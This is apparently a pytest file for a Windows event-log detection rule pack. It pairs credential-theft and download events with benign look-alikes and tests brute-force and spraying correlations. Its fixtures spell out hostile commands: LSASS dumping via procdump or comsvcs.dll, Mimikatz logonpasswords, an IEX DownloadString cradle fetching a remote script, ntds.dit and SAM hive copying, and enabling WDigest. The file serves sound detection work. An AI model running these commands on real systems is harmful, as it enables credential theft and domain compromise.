"""Rules of the built-in pack for downloads through trusted programs and for credential
access fire on the event they describe and stay quiet on a close benign look-alike;
the brute-force and spraying correlations fire on a burst and not on a quieter run.

Base rules that only feed a correlation are not reported on their own, so they are
checked against the compiled pack directly (``BASE_CASES``)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from tests.analyzers.windows_evtx.rule_cases import (
    CMD,
    PS_OP,
    PSH,
    SEC,
    SYSMON,
    Case,
    check_case,
    each_case,
    fired,
    matched_titles,
    proc,
    reg,
)

EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
WINLOGON = "C:\\Windows\\System32\\winlogon.exe"
SHADOW = "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3"
WDIGEST = "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest"
LSASS = "C:\\Windows\\system32\\lsass.exe"
DC = "DC01.example.local"


def blocked_write(event_id: int) -> dict[str, Any]:
    """Sysmon 27 (FileBlockExecutable) or 29 (FileExecutableDetected): curl writing a
    program into a public folder."""
    return {
        **SYSMON,
        "EventID": event_id,
        "RuleName": "-",
        "UtcTime": "2024-04-12 00:00:00.000",
        "ProcessGuid": "{5b1a3f0e-7a10-6618-2c01-000000001a00}",
        "ProcessId": "6412",
        "User": "EXAMPLE\\user01",
        "Image": "C:\\Windows\\System32\\curl.exe",
        "TargetFilename": "C:\\Users\\Public\\Libraries\\svchost.exe",
        "Hashes": "SHA256=5E9A0C71D2B4F8E36A1C0D7B9E2F4A6C8D0B1E3F5A7C9E1B3D5F7A9C1E3B5D7F",
    }


def lsass_access(source: str, granted: str) -> dict[str, Any]:
    """Sysmon 10 (ProcessAccess) with lsass.exe as the target."""
    return {
        **SYSMON,
        "EventID": 10,
        "RuleName": "-",
        "UtcTime": "2024-04-12 00:00:00.000",
        "SourceProcessGUID": "{5b1a3f0e-7a10-6618-3d01-000000001a00}",
        "SourceProcessId": "7120",
        "SourceThreadId": "7124",
        "SourceImage": source,
        "TargetProcessGUID": "{5b1a3f0e-0001-6618-0c00-000000001a00}",
        "TargetProcessId": "724",
        "TargetImage": LSASS,
        "GrantedAccess": granted,
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
        "C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(000001D2A3C1F2A5)",
        "SourceUser": "EXAMPLE\\user01",
        "TargetUser": "NT AUTHORITY\\SYSTEM",
    }


#: The subject a 4624/4625 names: nobody for a network logon, the computer (SYSTEM) for
#: winlogon, the calling user for a program the user runs.
SUBJECTS: dict[str, dict[str, str]] = {
    "-": {
        "SubjectUserSid": "S-1-0-0",
        "SubjectUserName": "-",
        "SubjectDomainName": "-",
        "SubjectLogonId": "0x0",
    },
    WINLOGON: {
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": "WS01$",
        "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": "0x3e7",
    },
    "user": {
        "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1104",
        "SubjectUserName": "user01",
        "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": "0x3c2a1",
    },
}


PACKAGES = {"NtLmSsp ": "NTLM", "Kerberos": "Kerberos"}


def logon(
    user: str, logon_type: str, process_name: str, program: str, address: str = "-"
) -> dict[str, Any]:
    """4624 for ``user``: type 2 as LsaLogonUser writes it for a browser's saved-password
    check or for winlogon, type 3 for a network logon."""
    return {
        **SEC,
        "EventID": 4624,
        **SUBJECTS.get("-" if logon_type == "3" else program, SUBJECTS["user"]),
        "TargetUserSid": "S-1-5-21-1004336348-1177238915-682003330-1104",
        "TargetUserName": user,
        "TargetDomainName": "EXAMPLE",
        "TargetLogonId": "0x8f2e17",
        "LogonType": logon_type,
        "LogonProcessName": process_name,
        "AuthenticationPackageName": PACKAGES.get(process_name, "Negotiate"),
        "WorkstationName": "WS01",
        "ProcessId": "0x0" if program == "-" else "0x1d4c",
        "ProcessName": program,
        "IpAddress": address,
        "IpPort": "-" if address == "-" else "50112",
    }


def password_reset(subject: str, target: str) -> dict[str, Any]:
    """4724: an attempt was made to reset an account's password."""
    return {
        **SEC,
        "EventID": 4724,
        "TargetUserName": target,
        "TargetDomainName": "EXAMPLE",
        "TargetSid": "S-1-5-21-1004336348-1177238915-682003330-1642",
        "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1118",
        "SubjectUserName": subject,
        "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": "0x5a1f3c",
    }


def computer_changed(sid: str, subject: str, domain: str, logon_id: str) -> dict[str, Any]:
    """4742 for the domain controller's own account, password last set just now."""
    return {
        **SEC,
        "EventID": 4742,
        "ComputerAccountChange": "-",
        "TargetUserName": "DC01$",
        "TargetDomainName": "EXAMPLE",
        "TargetSid": "S-1-5-21-1004336348-1177238915-682003330-1000",
        "SubjectUserSid": sid,
        "SubjectUserName": subject,
        "SubjectDomainName": domain,
        "SubjectLogonId": logon_id,
        "PrivilegeList": "-",
        "SamAccountName": "-",
        "DisplayName": "-",
        "PasswordLastSet": "4/12/2024 12:00:00 AM",
        "UserAccountControl": "-",
        "DnsHostName": "-",
        "ServicePrincipalNames": "-",
    }


CASES: list[Case] = [
    (
        "Browser started from a shell to fetch a program or archive",
        proc(f'"{EDGE}" http://203.0.113.45/files/invoice_0412.zip', EDGE, PSH),
        proc(f'"{EDGE}" https://intranet.example.local/helpdesk/', EDGE, PSH),
    ),
    (
        "desktopimgdownldr used to download a file",
        proc(
            "desktopimgdownldr.exe /lockscreenurl:https://203.0.113.80/wp/lock.exe"
            " /eventName:desktopimgdownldr",
            "C:\\Windows\\System32\\desktopimgdownldr.exe",
        ),
        proc(
            "desktopimgdownldr.exe /lockscreenurl:C:\\Windows\\Web\\Screen\\img100.jpg"
            " /eventName:desktopimgdownldr",
            "C:\\Windows\\System32\\desktopimgdownldr.exe",
        ),
    ),
    (
        # 29 is the same write detected but let through (FileExecutableDetected)
        "Sysmon blocked an executable file from being written (27)",
        blocked_write(27),
        blocked_write(29),
    ),
    (
        "Browser asked for the Windows password (saved-password reveal)",
        logon(
            "user01", "2", "Chrome", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
        ),
        logon("user01", "2", "User32 ", WINLOGON, "127.0.0.1"),
    ),
    (
        "Password of a computer account reset by an account (4724)",
        password_reset("helpdesk01", "WS042$"),
        password_reset("helpdesk01", "user07"),
    ),
    (
        "LSASS memory opened for reading (Sysmon)",
        lsass_access("C:\\ProgramData\\x64\\lsx.exe", "0x1010"),
        lsass_access("C:\\Program Files\\Example\\Agent\\agent.exe", "0x1000"),
    ),
    (
        "LSASS dumped with comsvcs.dll or ProcDump",
        proc(
            "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp",
            "C:\\Tools\\Sysinternals\\procdump64.exe",
        ),
        proc(
            "procdump64.exe -accepteula -ma w3wp.exe C:\\Dumps\\w3wp.dmp",
            "C:\\Tools\\Sysinternals\\procdump64.exe",
        ),
    ),
    (
        "LSASS dumped with comsvcs.dll or ProcDump",
        proc(
            '"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll,'
            " MiniDump 724 C:\\Windows\\Temp\\bk.bin full",
            "C:\\Windows\\System32\\rundll32.exe",
            PSH,
        ),
        None,
    ),
    (
        "Mimikatz commands on a command line",
        proc(
            'C:\\ProgramData\\x64\\mk.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
            "C:\\ProgramData\\x64\\mk.exe",
        ),
        proc(
            f'"{PSH}" -NoProfile -Command "[System.Security.Cryptography.ProtectedData]::'
            "Unprotect($blob, $null, 'CurrentUser')\"",
            PSH,
        ),
    ),
    (
        "Mimikatz commands in a PowerShell script block",
        {
            **PS_OP,
            "Provider_Name": "Microsoft-Windows-PowerShell",
            "EventID": 4104,
            "MessageNumber": "1",
            "MessageTotal": "1",
            "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString("
            "'http://198.51.100.23/im.ps1'); Invoke-Mimikatz -Command "
            '\'"privilege::debug" "sekurlsa::logonpasswords"\'',
            "ScriptBlockId": "6f0e8c5a-1b2d-4e3f-9a7b-0c1d2e3f4a5b",
            "Path": "",
        },
        {
            **PS_OP,
            "Provider_Name": "Microsoft-Windows-PowerShell",
            "EventID": 4104,
            "MessageNumber": "1",
            "MessageTotal": "1",
            "ScriptBlockText": "Get-MpThreatDetection | Where-Object { $_.ThreatID -in "
            "(Get-MpThreat | Where-Object ThreatName -like '*Mimikatz*').ThreatID }",
            "ScriptBlockId": "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d",
            "Path": "C:\\Scripts\\defender-report.ps1",
        },
    ),
    (
        "Active Directory database copied (ntdsutil ifm / ntds.dit)",
        proc(
            'ntdsutil.exe "activate instance ntds" ifm "create full C:\\Windows\\Temp\\m"'
            " quit quit",
            "C:\\Windows\\System32\\ntdsutil.exe",
        ),
        proc(
            'ntdsutil.exe "activate instance ntds" files info quit quit',
            "C:\\Windows\\System32\\ntdsutil.exe",
        ),
    ),
    (
        "Active Directory database copied (ntdsutil ifm / ntds.dit)",
        proc(
            f"cmd.exe /c copy {SHADOW}\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp\\nd.bin",
            CMD,
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        ),
        proc(
            f"cmd.exe /c dir {SHADOW}\\Windows\\NTDS\\",
            CMD,
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        ),
    ),
    (
        "SAM, SECURITY or SYSTEM hive saved with reg.exe",
        proc("reg save HKLM\\SAM C:\\Users\\Public\\sam.save /y", "C:\\Windows\\System32\\reg.exe"),
        proc(
            "reg save HKLM\\SOFTWARE C:\\Backup\\software.hiv /y",
            "C:\\Windows\\System32\\reg.exe",
        ),
    ),
    (
        "SAM, SECURITY or SYSTEM hive saved with reg.exe",
        proc(
            'reg.exe save "HKEY_LOCAL_MACHINE\\SYSTEM" C:\\ProgramData\\s.dat',
            "C:\\Windows\\System32\\reg.exe",
        ),
        proc(
            "reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters"
            " C:\\Temp\\tcpip.reg",
            "C:\\Windows\\System32\\reg.exe",
        ),
    ),
    (
        "WDigest plaintext credential caching enabled",
        reg(f"{WDIGEST}\\UseLogonCredential", "DWORD (0x00000001)")
        | {"Image": "C:\\Windows\\system32\\reg.exe"},
        reg(f"{WDIGEST}\\UseLogonCredential", "DWORD (0x00000000)")
        | {"Image": "C:\\Windows\\system32\\reg.exe"},
    ),
    (
        "Computer account changed by ANONYMOUS LOGON (Zerologon)",
        computer_changed("S-1-5-7", "ANONYMOUS LOGON", "NT AUTHORITY", "0x3e6"),
        computer_changed(
            "S-1-5-21-1004336348-1177238915-682003330-1118", "admin01", "EXAMPLE", "0x61b2f0"
        ),
    ),
]


@each_case(CASES)
def test_rule_fires_on_its_event_and_not_on_the_look_alike(
    tmp_path: Path, title: str, event: dict[str, Any], benign: dict[str, Any] | None
) -> None:
    check_case(tmp_path, title, event, benign)


# --------------------------------------------------------------- correlation events


def stamp(record: int, second: int, computer: str = DC) -> dict[str, Any]:
    """Record id, computer and a time ``second`` seconds after 2024-04-12 00:00:00 UTC."""
    minutes, seconds = divmod(second, 60)
    return {
        "Computer": computer,
        "EventRecordID": record,
        "TimeCreated": f"2024-04-12T00:{minutes:02d}:{seconds:02d}Z",
    }


def explicit_logon(target: str) -> dict[str, Any]:
    """4648: user01's PowerShell binding to the domain controller as ``target``."""
    return {
        **SEC,
        "EventID": 4648,
        "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1104",
        "SubjectUserName": "user01",
        "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": "0x3c2a1",
        "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TargetUserName": target,
        "TargetDomainName": "EXAMPLE",
        "TargetLogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TargetServerName": DC,
        "TargetInfo": DC,
        "ProcessId": "0x1f30",
        "ProcessName": PSH,
        "IpAddress": "10.0.0.10",
        "IpPort": "389",
    }


def failed_logon(
    user: str,
    program: str,
    logon_type: str = "3",
    process_name: str = "Advapi  ",
    address: str = "-",
) -> dict[str, Any]:
    """4625 for a wrong password; a program calling LogonUser is recorded by its path,
    a network logon has no program (``-``) but the client's address."""
    return {
        **SEC,
        "EventID": 4625,
        **SUBJECTS.get(program, SUBJECTS["user"]),
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": user,
        "TargetDomainName": "EXAMPLE",
        "Status": "0xc000006d",
        "FailureReason": "%%2313",
        "SubStatus": "0xc000006a",
        "LogonType": logon_type,
        "LogonProcessName": process_name,
        "AuthenticationPackageName": "Negotiate" if program != "-" else "NTLM",
        "WorkstationName": "WS01" if program != "-" else "WS33",
        "ProcessId": "0x2b1c" if program != "-" else "0x0",
        "ProcessName": program,
        "IpAddress": address,
        "IpPort": "-" if address == "-" else "50112",
    }


def preauth_failed(user: str, address: str, status: str = "0x18") -> dict[str, Any]:
    """4771 on the domain controller: Kerberos pre-authentication failed."""
    return {
        **SEC,
        "EventID": 4771,
        "TargetUserName": user,
        "TargetSid": "S-1-5-21-1004336348-1177238915-682003330-1201",
        "ServiceName": "krbtgt/EXAMPLE.LOCAL",
        "TicketOptions": "0x40810010",
        "Status": status,
        "PreAuthType": "2",
        "IpAddress": f"::ffff:{address}",
        "IpPort": "51034",
        "CertIssuerName": "",
        "CertSerialNumber": "",
        "CertThumbprint": "",
    }


def ntlm_validation(user: str, workstation: str, status: str = "0xc000006a") -> dict[str, Any]:
    """4776 on the domain controller: NTLM credential validation."""
    return {
        **SEC,
        "EventID": 4776,
        "PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
        "TargetUserName": user,
        "Workstation": workstation,
        "Status": status,
    }


def sql_login(event_id: int, record: int, second: int, user: str, computer: str) -> dict[str, Any]:
    """18456 (login failed) or 18453 (login succeeded) as the ``evtx`` package writes
    the classic event: its values are unnamed ``Data`` elements."""
    if event_id == 18456:
        values = [user, " Reason: Password did not match that for the login provided."]
        qualifiers = 49152
    else:
        values = [user, " Connection made using SQL Server authentication."]
        qualifiers = 16384
    minutes, seconds = divmod(second, 60)
    return {
        "Event": {
            "System": {
                "Provider": {"#attributes": {"Name": "MSSQLSERVER"}},
                "EventID": {"#attributes": {"Qualifiers": qualifiers}, "#text": event_id},
                "TimeCreated": {
                    "#attributes": {"SystemTime": f"2024-04-12T00:{minutes:02d}:{seconds:02d}Z"}
                },
                "EventRecordID": record,
                "Channel": "Application",
                "Computer": computer,
            },
            "EventData": {"Data": {"#text": [*values, " [CLIENT: 203.0.113.61]"]}},
        }
    }


def sql_login_flat(event_id: int, user: str) -> dict[str, Any]:
    """The same event flattened as the analyzer hands it to the rules."""
    if event_id == 18456:
        reason = " Reason: Password did not match that for the login provided."
    else:
        reason = " Connection made using SQL Server authentication."
    return {
        "Channel": "Application",
        "Provider_Name": "MSSQLSERVER",
        "EventID": event_id,
        "Data": [user, reason, " [CLIENT: 203.0.113.61]"],
    }


SPRAYER = "C:\\Users\\user01\\AppData\\Local\\Temp\\lu.exe"

#: Base rules that feed a correlation and are not reported on their own.
BASE_CASES: list[Case] = [
    (
        "Explicit credentials used",
        explicit_logon("svc_backup"),
        logon("svc_backup", "3", "Kerberos", "-", "10.0.1.20"),
    ),
    (
        "Failed logon (requested by a program)",
        failed_logon("administrator", SPRAYER),
        failed_logon("user01", WINLOGON, "2", "User32 ", "127.0.0.1"),
    ),
    (
        "Kerberos pre-authentication failed",
        preauth_failed("user12", "10.0.1.20"),
        preauth_failed("user12", "10.0.1.20", "0x25"),
    ),
    (
        "Failed logon (any source)",
        failed_logon("administrator", "-", "3", "NtLmSsp ", "10.0.1.33"),
        logon("administrator", "3", "NtLmSsp ", "-", "10.0.1.33"),
    ),
    (
        "SQL Server logon failed (18456)",
        sql_login_flat(18456, "sa"),
        sql_login_flat(18453, "sa"),
    ),
    (
        "NTLM credential validation failed (4776)",
        ntlm_validation("user12", "WS17"),
        ntlm_validation("user12", "WS17", "0x0"),
    ),
]


@pytest.mark.parametrize(
    ("title", "event", "benign"), BASE_CASES, ids=[c[0][:40] for c in BASE_CASES]
)
def test_base_rule_matches_its_event_and_not_the_look_alike(
    title: str, event: dict[str, Any], benign: dict[str, Any] | None
) -> None:
    assert title in matched_titles(event)
    assert benign is not None
    assert title not in matched_titles(benign)


def test_explicit_credentials_of_many_accounts_correlate(tmp_path: Path) -> None:
    title = "Many accounts' credentials tried by one account (4648)"
    users = [f"user{n:02d}" for n in range(10, 20)]
    ten = [
        explicit_logon(u) | stamp(i, i * 20, "WS01.example.local") for i, u in enumerate(users, 1)
    ]
    assert title in fired(tmp_path / "hit.jsonl", ten)
    # the same ten attempts, but one account tried twice: nine distinct accounts
    nine = [*users[:9], users[0]]
    retried = [
        explicit_logon(u) | stamp(i, i * 20, "WS01.example.local") for i, u in enumerate(nine, 1)
    ]
    assert title not in fired(tmp_path / "quiet.jsonl", retried)


def test_failed_logons_requested_by_one_program_correlate(tmp_path: Path) -> None:
    title = "Brute force: many failed logons requested by one program"
    ten = [
        failed_logon("administrator", SPRAYER) | stamp(i, i * 10, "WS01.example.local")
        for i in range(1, 11)
    ]
    assert title in fired(tmp_path / "hit.jsonl", ten)
    # ten failures, one every 40 seconds: no five minutes hold more than eight
    slow = [
        failed_logon("administrator", SPRAYER) | stamp(i, i * 40, "WS01.example.local")
        for i in range(1, 11)
    ]
    assert title not in fired(tmp_path / "quiet.jsonl", slow)


def test_kerberos_preauth_failures_for_many_accounts_correlate(tmp_path: Path) -> None:
    title = "Kerberos password spraying: many accounts failing from one address"
    users = [f"user{n:02d}" for n in range(10, 20)]
    ten = [preauth_failed(u, "10.0.1.20") | stamp(i, i * 30) for i, u in enumerate(users, 1)]
    assert title in fired(tmp_path / "hit.jsonl", ten)
    # the tenth account fails from another workstation: nine per address
    split = [
        preauth_failed(u, "10.0.1.20" if i < 10 else "10.0.1.21") | stamp(i, i * 30)
        for i, u in enumerate(users, 1)
    ]
    assert title not in fired(tmp_path / "quiet.jsonl", split)


def test_failed_logons_for_one_account_correlate(tmp_path: Path) -> None:
    title = "Brute force: many failed logons for one account"
    twenty = [
        failed_logon("administrator", "-", "3", "NtLmSsp ", "10.0.1.33")
        | stamp(i, i * 15, "FS01.example.local")
        for i in range(1, 21)
    ]
    assert title in fired(tmp_path / "hit.jsonl", twenty)
    nineteen = twenty[:19]
    assert title not in fired(tmp_path / "quiet.jsonl", nineteen)


def test_sql_server_logon_failures_correlate(tmp_path: Path) -> None:
    title = "SQL Server brute force: many failed logons"
    fast = [sql_login(18456, i, i * 5, "sa", "DB01.example.local") for i in range(1, 21)]
    assert title in fired(tmp_path / "hit.jsonl", fast)
    # twenty failures, one every 35 seconds: no ten minutes hold more than eighteen
    slow = [sql_login(18456, i, i * 35, "sa", "DB01.example.local") for i in range(1, 21)]
    assert title not in fired(tmp_path / "quiet.jsonl", slow)


def test_ntlm_validation_failures_correlate(tmp_path: Path) -> None:
    title = "NTLM brute force: many failed credential validations"
    twenty = [ntlm_validation("user12", "WS17") | stamp(i, i * 10) for i in range(1, 21)]
    assert title in fired(tmp_path / "hit.jsonl", twenty)
    # the last attempt names another workstation: nineteen per (account, workstation)
    split = [
        ntlm_validation("user12", "WS17" if i < 20 else "WS18") | stamp(i, i * 10)
        for i in range(1, 21)
    ]
    assert title not in fired(tmp_path / "quiet.jsonl", split)
